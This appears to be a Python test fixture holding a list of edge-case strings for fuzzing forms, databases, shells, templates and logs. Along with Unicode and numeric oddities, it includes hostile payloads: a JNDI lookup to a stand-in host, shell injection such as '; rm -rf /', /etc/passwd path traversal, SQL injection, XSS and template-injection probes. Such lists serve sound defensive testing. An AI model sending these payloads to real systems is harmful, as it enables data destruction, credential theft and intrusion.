"""Texts that have broken forms, databases, shells, templates and logs elsewhere."""

STRINGS = [
    "", " ", "\t", "\n", "\r\n", "\x00", "a\x00b", "\x00\x00\x00", "\x01\x02\x1b[31mred", "\x7f", "\x85",
    "\u2028line", "\ufeffbom", "\u200bzero\u200bwidth", "\u202eright to left",
    "\u202a\u202b\u202c\u2066\u2069", "\xad", "\ufffd", "\ufffe\uffff", "\U000e0041tag",
    "a\u0301\u0302\u0303\u0304" * 20, "\ufdfa", "Z\u0337\u0322\u031ba\u0338l\u0334g\u0335o\u0336",
    "\ufb01 ligature", "\uff26\uff35\uff2c\uff2c", "\u01c5", "\xdf", "\u0130\u0131\u017fK", "\U0001f680",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1f7\U0001f1fa\U0001f1e8\U0001f1ed", "\U0001f44d\U0001f3ff" * 30, "текст по-русски",
    "\u6587\u5b57", "\u0646\u0635 \u0639\u0631\u0628\u064a", "\u05e2\u05d1\u05e8\u05d9\u05ea",
    "\U0001d579\U0001d586\U0001d592\U0001d58a", "\u0660\u0661\u0662\u0663", "\u2167", "\xbd", "x" * 10000,
    "\xe9" * 10000, "\U0001f680" * 3000, "." * 300, "-" * 300, "a." * 200, "'", "\"", "''", "`", "\\",
    "\\0", "%", "%s", "%(name)s", "%n%n%n", "%00", "%2e%2e%2f", "{}", "{0}", "{name}", "${x}", "${IN}",
    "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`", "; rm -rf /", "| cat /etc/passwd", "&& id",
    "-rf", "--help", "{{7*7}}", "{{ config }}", "{% raw %}", "{# comment #}", "<%= 7*7 %>", "#{7*7}",
    "__class__", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "'><b>", "</title><b>", "<!--", "&lt;b&gt;", "&amp;", "&#0;", "javascript:alert(1)", "]]>", "<?xml?>",
    "' OR '1'='1", "'; DROP TABLE task; --", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"",
    "UNION SELECT password_hash FROM user", "0", "-1", "00", "007", "1e309", "NaN", "Infinity", "-0",
    "0x10", "1_000", "9" * 400, "1.0", "1,5", "null", "None", "undefined", "true", "[]", "a,b;c", "=1+1",
    "@SUM(1)", "../../etc/passwd", "C:\\con", "file:///etc/passwd", "a\r\nSet-Cookie: x=1", "a b", " a ",
    "a\tb", "a:b:c", "year:2026", "csrf_token", "&year=1", "?a=b#c", "%%", "~", "*", "_", "a__b",
]  # fmt: skip
